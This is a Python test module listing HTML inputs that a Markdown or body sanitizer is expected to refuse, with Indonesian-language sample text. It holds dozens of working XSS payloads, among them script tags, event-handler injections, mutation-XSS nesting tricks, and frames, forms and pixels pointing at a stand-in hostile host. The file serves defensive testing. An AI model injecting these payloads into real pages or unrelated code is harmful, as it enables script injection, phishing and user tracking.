"""HTML that stands in a body as it is: what could run, load, steer or dress is refused."""

from tests.hostile.case import Case, refused

HTML = "html-tidak-diizinkan"
PICTURE = "gambar-di-isi"
HACK = "window.__hacked=1"


def _refused(name: str, html: str, at: str = "") -> Case:
    return refused(name, HTML, f"Kalimat sebelum.\n\n{html}\n", at=at or html.split("\n")[0])


CASES = (
    _refused("a script element", f"<script>{HACK}</script>"),
    _refused("a script in capitals", f"<ScRiPt>{HACK}</sCrIpT>"),
    _refused("a script from elsewhere", '<script src="//jahat.example/x.js"></script>'),
    _refused("a script with a slash for a space", f"<script/x>{HACK}</script>"),
    _refused("a script inside a script", f"<scr<script>ipt>{HACK}</scr</script>ipt>"),
    _refused("a script without an end", f"<script>{HACK}"),
    _refused("a script of a module", f'<script type="module">{HACK}</script>'),
    _refused("a data block of a script", '<script type="application/ld+json">{}</script>'),
    _refused("an image with a handler", f'<img src=x onerror="{HACK}">'),
    refused("an image whose handler follows a slash", PICTURE, f"<img/src=x/onerror={HACK}>\n"),
    _refused("a drawing with a handler", "<svg onload=alert(1)></svg>"),
    _refused("a drawing with a script", f"<svg><script>{HACK}</script></svg>"),
    _refused(
        "a drawing that animates a link",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text y=20>x</text></a></svg>",
    ),
    _refused(
        "a drawing in which a style hides a tag",
        f"<svg><style><img src=x onerror={HACK}></style></svg>",
    ),
    _refused(
        "mathematics that turns into a tag",
        '<math><mtext><table><mglyph><style><!--</style><img title="'
        f'--&gt;&lt;img src=1 onerror={HACK}&gt;">',
    ),
    _refused(
        "a form in mathematics in a form",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HACK}>",
    ),
    _refused(
        "a noscript that ends inside an attribute",
        f'<noscript><p title="</noscript><img src=x onerror={HACK}>">',
    ),
    _refused("a frame", '<iframe src="https://jahat.example/"></iframe>'),
    _refused(
        "a frame that brings its page along",
        f'<iframe srcdoc="<script>parent.{HACK}</script>"></iframe>',
    ),
    _refused("an object", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    _refused("an embedded file", '<embed src="https://jahat.example/x.swf">'),
    _refused(
        "a form that asks for a password",
        '<form action="https://jahat.example/"><input name="sandi"></form>',
    ),
    _refused(
        "a button that sends elsewhere", '<button formaction="javascript:alert(1)">Klik</button>'
    ),
    _refused("an input that takes the focus", "<input autofocus onfocus=alert(1)>"),
    _refused(
        "details that open by themselves", f"<details open ontoggle={HACK}><p>x</p></details>"
    ),
    _refused("a refresh", '<meta http-equiv="refresh" content="0;url=https://jahat.example/">'),
    _refused("a base for all links", '<base href="https://jahat.example/">'),
    _refused("a style sheet", "<style>body{display:none}</style>"),
    _refused("a linked style sheet", '<link rel="stylesheet" href="https://jahat.example/x.css">'),
    _refused("a style in a tag", '<p style="position:fixed;inset:0;background:red">x</p>'),
    _refused("a class of the house", '<p class="masthead">Kabar resmi</p>'),
    _refused("a template", f"<template><script>{HACK}</script></template>"),
    _refused("a marquee with a handler", "<marquee onstart=alert(1)>x</marquee>"),
    _refused(
        "a video that calls home", '<video src="https://jahat.example/v.mp4" autoplay></video>'
    ),
    _refused("a sound that fails", "<audio src=x onerror=alert(1)></audio>"),
    _refused("a link that opens a window", '<a href="/" target="_blank" onclick="alert(1)">x</a>'),
    _refused("a handler on a heading", f"<h2 onmouseover={HACK}>Judul</h2>"),
    _refused("a handler in a table", f"<table><tr><td onclick={HACK}>x</td></tr></table>"),
    _refused("a comment that hides words", "<!-- kata rahasia -->"),
    _refused("a comment of an old browser", f"<!--[if IE]><script>{HACK}</script><![endif]-->"),
    _refused("a comment that ends twice", f"<!--><img src=x onerror={HACK}>-->"),
    _refused("a processing instruction", f'<?php echo "{HACK}"; ?>'),
    _refused("a data section", f"<![CDATA[<script>{HACK}</script>]]>"),
    _refused("a doctype", "<!DOCTYPE html>"),
    _refused("the end of the body", "</main></body></html><p>di luar</p>", at="</main>"),
    _refused("plain text to the end", "<plaintext>habis semua"),
    refused(
        "an image that counts its readers",
        PICTURE,
        '<img src="https://jahat.example/1.gif" width=1 height=1>\n',
        at="<img",
    ),
    _refused("an image with many sources", '<img srcset="https://jahat.example/1.gif 1x" alt="x">'),
    _refused("a text area that swallows", "<textarea>sisa halaman"),
    _refused("a title that swallows", "<title>sisa halaman"),
    _refused("a dialog", "<dialog open><p>Masukkan sandi</p></dialog>"),
    _refused("a popover", '<p popover id="x">x</p>'),
    _refused("an element of one's own", "<x-jahat onfocus=alert(1) tabindex=1>x</x-jahat>"),
    _refused("what is editable", '<p contenteditable autofocus onfocus="alert(1)">x</p>'),
    _refused(
        "a portal in an indented list", f"- butir\n\n    <script>{HACK}</script>", at="<script>"
    ),
    _refused("a script in a quotation", f"> <script>{HACK}</script>"),
    _refused(
        "a script in a table cell",
        f"| a | b |\n|---|---|\n| <script>{HACK}</script> | x |",
        at="<script>",
    ),
    _refused("a script in a heading", f"## <script>{HACK}</script>"),
)
